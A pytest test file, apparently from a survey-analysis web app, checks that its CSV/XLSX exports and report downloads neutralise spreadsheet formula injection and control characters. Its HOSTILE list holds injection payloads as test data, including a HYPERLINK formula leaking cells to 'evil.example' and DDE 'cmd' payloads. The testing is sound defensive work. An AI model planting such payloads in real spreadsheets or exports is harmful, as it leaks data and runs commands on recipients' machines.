"""Every CSV/XLSX the project writes holds no cell a spreadsheet would run, and opens."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
import unicodedata
import zipfile

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import analysis
from analysis.io import read_elements, read_margin, read_responses, read_totals, safe_cell

from .conftest import ROOT
from .factories import make_response
from .test_reports import add_response, login_as

# Cells an attacker would try: a live link that leaks neighbouring cells, the other formula
# starts, their full-width forms, and control characters XLSX cannot hold.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&C3&D3,"Chi tiết")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "'=already quoted",
    "Sở\x07 Tư\x1b pháp\x0b",
    "UBND xã \u202eHòa Bình",
]
# What XLSX (XML 1.0) cannot hold, and bidi overrides: never in a written cell.
UNWRITABLE = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff\u202a-\u202e\u2066-\u2069]")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def evaluable(cell) -> bool:
    """Whether a spreadsheet would take this text cell as a formula (written independently
    of the writer's own rule)."""
    if not isinstance(cell, str) or not cell:
        return False
    if cell[0] in "\t\r\n":
        return True
    head = cell.lstrip()[:1]
    if not head:
        return False
    starts = unicodedata.normalize("NFKC", head) in ("=", "+", "-", "@") or head == "\u2212"
    return starts and PLAIN_NUMBER.fullmatch(cell) is None


def shown(name: str, xml: bool = False) -> set[str]:
    """What a written cell may hold for this text: it without the unwritable characters,
    with a quote in front if it would be a formula (XML, hence XLSX, reads CR as LF)."""
    clean = UNWRITABLE.sub("", name)
    if xml:
        clean = clean.replace("\r\n", "\n").replace("\r", "\n")
    return {clean, "'" + clean}


def assert_csv_safe(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not evaluable(cell), cell
            assert not UNWRITABLE.search(cell), cell
    return rows


def assert_xlsx_safe(data: bytes) -> openpyxl.Workbook:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                assert not evaluable(cell.value), cell.value
                if isinstance(cell.value, str):
                    assert not UNWRITABLE.search(cell.value), cell.value
    return book


def hostile_table() -> pd.DataFrame:
    table = pd.DataFrame({
        "agency": HOSTILE,
        "estimate": [float(i) for i in range(len(HOSTILE))],
        "n": range(len(HOSTILE)),
        "code": ["-5", "+84", "007", "1e-3", "", None, "a", "b", "c", "d", "e"],
    })
    table.attrs["notes"] = pd.DataFrame({"kind": ["pooled"], "detail": ["=1+1\x01"]})
    return table


# --- the writer --------------------------------------------------------------------------


@pytest.mark.parametrize("target", ["path", "bytes", "text"])
def test_csv_writer_neutralises_formulas_and_controls(tmp_path, target):
    table = hostile_table()
    if target == "path":
        analysis.write_table(table, tmp_path / "t.csv")
        data = (tmp_path / "t.csv").read_bytes()
    elif target == "bytes":
        buffer = io.BytesIO()
        analysis.write_table(table, buffer, format="csv")
        data = buffer.getvalue()
    else:
        buffer = io.StringIO()
        analysis.write_table(table, buffer)
        data = buffer.getvalue().encode("utf-8")
        assert not data.startswith(b"\xef\xbb\xbf")  # text streams get no BOM
    assert data.startswith(b"\xef\xbb\xbf") == (target != "text")
    rows = assert_csv_safe(data)
    assert len(rows) == 1 + len(HOSTILE)
    for row, name in zip(rows[1:], HOSTILE, strict=True):
        assert row[0] in shown(name)
    # Numbers stay numbers; plain numbers written as text are left alone.
    assert [row[1] for row in rows[1:3]] == ["0.0", "1.0"]
    assert [row[3] for row in rows[1:5]] == ["-5", "+84", "007", "1e-3"]


@pytest.mark.parametrize("target", ["path", "bytes"])
def test_xlsx_writer_writes_strings_never_formulas(tmp_path, target):
    table = hostile_table()
    if target == "path":
        analysis.write_table(table, tmp_path / "t.xlsx")
        data = (tmp_path / "t.xlsx").read_bytes()
    else:
        buffer = io.BytesIO()
        analysis.write_table(table, buffer, format="xlsx")
        data = buffer.getvalue()
    book = assert_xlsx_safe(data)
    assert book.sheetnames == ["indices", "notes"]
    sheet = book["indices"]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    for row, name in zip(values[1:], HOSTILE, strict=True):
        assert row[0] in shown(name, xml=True)
        assert sheet.cell(values.index(row) + 1, 2).data_type == "n"
    assert book["notes"]["B2"].value == "'=1+1"


def test_xlsx_needs_a_binary_target():
    with pytest.raises(analysis.AnalysisInputError, match="XLSX"):
        analysis.write_table(hostile_table(), io.StringIO(), format="xlsx")
    with pytest.raises(analysis.AnalysisInputError, match="format"):
        analysis.write_table(hostile_table(), io.BytesIO(), format="pdf")


def test_json_keeps_the_values_as_they_are(tmp_path):
    analysis.write_table(hostile_table(), tmp_path / "t.json")
    records = pd.read_json(tmp_path / "t.json")
    assert records["agency"].iloc[0] == HOSTILE[0]  # JSON is not a spreadsheet


texts = st.text(
    st.one_of(
        st.sampled_from(list("=+-@＝＋－＠﹦−'\"\t\r\n ,;") + ["\x01", "\x1f", "\u202e"]),
        st.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
    ),
    max_size=12,
)


@settings(max_examples=300, deadline=None)
@given(value=texts)
def test_safe_cell_is_never_a_formula(value):
    cell = safe_cell(value)
    assert not evaluable(cell)
    assert cell in shown(value)
    assert not UNWRITABLE.search(cell)


@settings(max_examples=60, deadline=None)
@given(values=st.lists(texts, min_size=1, max_size=6))
def test_round_trip_through_the_cli_readers(tmp_path_factory, values):
    """What write_table writes, the CLI's readers read back as it was (controls aside)."""
    folder = tmp_path_factory.mktemp("round-trip")
    clean = [UNWRITABLE.sub("", v) for v in values]
    table = pd.DataFrame({"agency": clean, "count": 7.0, "a1": 4})
    analysis.write_table(table, folder / "t.csv")
    assert read_totals(folder / "t.csv")["agency"].tolist() == clean
    assert read_margin(folder / "t.csv")["agency"].tolist() == clean
    back = read_responses(folder / "t.csv", criteria=["a1"])
    assert back["agency"].tolist() == clean and back["a1"].tolist() == [4.0] * len(clean)
    assert_csv_safe((folder / "t.csv").read_bytes())


def test_element_map_round_trip(tmp_path):
    table = pd.DataFrame({"item": ["a1", "a2"], "element": ["=A", "-B"]})
    analysis.write_table(table, tmp_path / "e.csv")
    assert read_elements(tmp_path / "e.csv").elements == ("=A", "-B")


def test_cli_outputs_are_safe(tmp_path):
    """`python -m analysis indices` on responses whose agency names are formulas."""
    responses = tmp_path / "responses.csv"
    rows = ["response_id,agency,a1,a2"] + [
        f'{i},"{name.replace(chr(34), chr(34) * 2)}",{1 + i % 5},{5 - i % 5}'
        for i, name in enumerate(HOSTILE * 3)
    ]
    responses.write_text("\n".join(rows) + "\n", encoding="utf-8")
    elements = tmp_path / "elements.csv"
    elements.write_text("item,element\na1,A\na2,A\n", encoding="utf-8")
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"out.{suffix}"
        subprocess.run([sys.executable, "-m", "analysis", "indices", str(responses),
                        "--elements", str(elements), "--by", "agency", "-o", str(out)],
                       check=True, cwd=ROOT, capture_output=True)
        if suffix == "csv":
            assert len(assert_csv_safe(out.read_bytes())) > len(HOSTILE)
        else:
            assert_xlsx_safe(out.read_bytes())


# --- the web downloads -------------------------------------------------------------------


@pytest.fixture
def hostile_agencies(session, make_counter):
    """Two agencies with answers, the second below the first, named as an attacker would."""
    justice = make_counter()
    health = make_counter(agency_code="SYT", agency_name=HOSTILE[0], label="Quầy Y tế",
                          parent=justice.agency)
    justice.agency.name = "Sở\x07 Tư pháp\x1b\u202e"
    session.commit()
    for value in (5, 4, 2):
        add_response(session, justice, a1=value, a2=4)
    add_response(session, health, field=2, a1=1, a2=2)
    return justice, health


def downloads(questionnaire="sipas-service"):
    paths = [f"/reports/indices.{fmt}?questionnaire={questionnaire}" for fmt in ("csv", "xlsx")]
    if questionnaire == "counter-quick":
        paths += [f"/reports/indices.csv?questionnaire=counter-quick&table={t}"
                  for t in ("reasons", "criteria")]
    return paths


def check_download(response, names):
    assert response.status_code == 200, response.status_code
    xml = response.mimetype != "text/csv"
    if xml:
        book = assert_xlsx_safe(response.data)
        cells = {c.value for row in book.active.iter_rows() for c in row}
    else:
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        cells = {c for row in assert_csv_safe(response.data) for c in row}
    for name in names:
        if UNWRITABLE.sub("", name):  # else a blank cell
            assert cells & shown(name, xml), name


@pytest.mark.parametrize("role", ["admin", "analyst", "agency"])
def test_every_role_downloads_formula_named_agencies_safely(client, session, role,
                                                            hostile_agencies):
    justice, health = hostile_agencies
    login_as(client, session, role, agency=justice.agency if role == "agency" else None)
    for path in downloads():
        check_download(client.get(path), [justice.agency.name, health.agency.name])
    assert client.get("/reports/").status_code == 200
    assert client.get("/reports/agency/SYT").status_code == 200


def test_quick_form_downloads_are_safe(client, session, make_counter):
    counter = make_counter(agency_name="@cmd|' /C calc'!A0\x01",
                           questionnaire_id="counter-quick")
    for overall, reasons in [(3, []), (1, [1, 2]), (2, [])]:
        make_response(session, counter, {"overall": overall, "reasons": reasons})
    login_as(client, session, "analyst")
    for path in downloads("counter-quick"):
        response = client.get(path)
        assert response.status_code == 200
        if "reasons" in path:
            assert_csv_safe(response.data)
        else:
            check_download(response, [counter.agency.name])


def test_csv_download_sends_its_charset_once(client, session, hostile_agencies):
    login_as(client, session, "admin")
    response = client.get("/reports/indices.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment")


# Names as an agency user's import would store them, written straight into the rows so that
# the download is tested on whatever reaches the database (NUL aside: PostgreSQL refuses it).
agency_names = st.one_of(
    st.sampled_from(HOSTILE),
    st.text(
        st.one_of(
            st.sampled_from(list("=+-@＝＋－＠'\"\t\r\n ,;") + ["\x01", "\x0b", "\x7f", "\u202e",
                                                              "\u200b", "\ufeff", "\x85"]),
            st.characters(codec="utf-8", exclude_categories=("Cs",),
                          exclude_characters="\x00"),
        ),
        min_size=1,
        max_size=60,
    ),
)


def test_any_agency_name_gives_safe_downloads_for_every_role(app, session, hostile_agencies):
    justice, health = hostile_agencies
    clients = {}
    for role in ("admin", "analyst", "agency"):
        clients[role] = app.test_client()
        login_as(clients[role], session, role,
                 agency=justice.agency if role == "agency" else None)

    @settings(max_examples=20, deadline=None)
    @given(parent=agency_names, child=agency_names, role=st.sampled_from(sorted(clients)))
    def check(parent, child, role):
        justice.agency.name, health.agency.name = parent, child
        session.commit()
        for path in downloads():
            check_download(clients[role].get(path), [parent, child])

    check()
